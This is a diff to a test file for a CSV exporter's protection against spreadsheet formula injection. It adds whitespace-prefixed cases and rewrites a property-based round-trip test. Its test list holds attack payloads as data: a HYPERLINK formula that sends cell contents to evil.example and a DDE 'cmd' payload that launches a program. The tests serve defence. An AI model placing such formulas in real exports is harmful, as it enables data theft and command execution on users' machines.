@@ -32,6 +32,9 @@ describe('a CSV export', () => {
     '＝1+1',
     '=HYPERLINK("https://evil.example/?"&A1,"more")',
     "=cmd|' /C calc'!A0",
+    '\tcmd',
+    '\rcmd',
+    '\ncmd',
   ])('shows %j as text', (text) => {
     expect(safeCell(text)).toMatch(/^\s*'/);
   });
@@ -62,16 +65,12 @@ describe('a CSV export', () => {
     );
     fc.assert(
       fc.property(rows, (cells) => {
-        const text = toCsv(cells).replace(/^\uFEFF/, '');
-        const read = readCsv(text);
-        expect(read.map((row) => row.map((cell) => cell.replaceAll("'", '')))).toEqual(
-          cells.map((row) => row.map((cell) => cell.replaceAll("'", ''))),
-        );
-        for (const cell of read.flat()) {
-          for (const part of cell.split(/[,;\t\r\n]/u)) expect(part).not.toMatch(BEGINS_FORMULA);
-        }
+        const read = readCsv(toCsv(cells).replace(/^\uFEFF/, ''));
+        const withoutQuotes = (table: string[][]) => JSON.stringify(table).replaceAll("'", '');
+        if (withoutQuotes(read) !== withoutQuotes(cells)) return false;
+        return !read.flat().some((cell) => cell.split(/[,;\t\r\n]/u).some((part) => BEGINS_FORMULA.test(part)));
       }),
-      { numRuns: 2_000 },
+      { numRuns: 1_000 },
     );
   });
 });
